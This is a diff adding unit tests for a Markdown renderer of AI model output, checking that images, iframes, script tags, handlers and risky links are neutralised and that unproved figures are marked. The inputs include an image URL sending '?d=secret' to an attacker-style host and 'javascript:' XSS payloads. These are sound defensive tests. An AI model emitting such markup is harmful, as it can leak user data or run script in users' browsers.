@@ -1,0 +1,58 @@
+import { renderToStaticMarkup } from 'react-dom/server';
+import { describe, expect, test } from 'vitest';
+import { Markdown } from './Markdown.tsx';
+
+const draw = (text: string, marks: { start: number; end: number; title: string }[] = []) =>
+  renderToStaticMarkup(<Markdown text={text} marks={marks} />);
+
+describe('text of a model', () => {
+  test.each([
+    '![x](https://evil.example/?d=secret)',
+    '<img src="https://evil.example/">',
+    '<iframe src="https://evil.example/"></iframe>',
+  ])('%s makes no request', (text) => {
+    expect(draw(text)).not.toMatch(/evil\.example/);
+  });
+
+  test.each([
+    '[click](javascript:alert(1))',
+    '[click](data:text/html,x)',
+    '[click](/api/export/x)',
+    '[click](https://user:pass@evil.example)',
+  ])('%s is no link', (text) => {
+    expect(draw(text)).not.toMatch(/<a /);
+  });
+
+  test('a web link opens apart, without the opener, and says where it goes', () => {
+    const html = draw('[docs](https://example.com/a)');
+    expect(html).toContain('rel="noopener noreferrer nofollow"');
+    expect(html).toContain('opens example.com in a new tab');
+  });
+
+  test('scripts and handlers are drawn as nothing', () => {
+    expect(draw('<script>alert(1)</script><b onclick="x()">b</b>')).not.toMatch(/script|onclick/);
+  });
+});
+
+describe('a figure that is not proved', () => {
+  const text = 'Revenue **rose 12 %** to $5.';
+  const start = text.indexOf('12 %');
+
+  test('is marked inside bold text too', () => {
+    const html = draw(text, [{ start, end: start + 4, title: 'Not proved by the data' }]);
+    expect(html).toContain('<strong>rose <mark class="unproved" title="Not proved by the data">12 %');
+  });
+
+  test('leaves the rest of the text as it was', () => {
+    const html = draw(text, [{ start, end: start + 4, title: 'Not proved by the data' }]);
+    expect(html.replaceAll(/<[^>]+>/g, '')).toContain('Revenue rose 12 % (not proved by the data) to $5.');
+  });
+
+  test('whose offsets lie outside the text changes nothing', () => {
+    expect(draw(text, [{ start: 500, end: 510, title: 'x' }])).toBe(draw(text));
+  });
+});
+
+test('tables of GitHub Markdown are drawn as tables', () => {
+  expect(draw('| a | b |\n|---|--:|\n| 1 | 2 |')).toContain('<table>');
+});
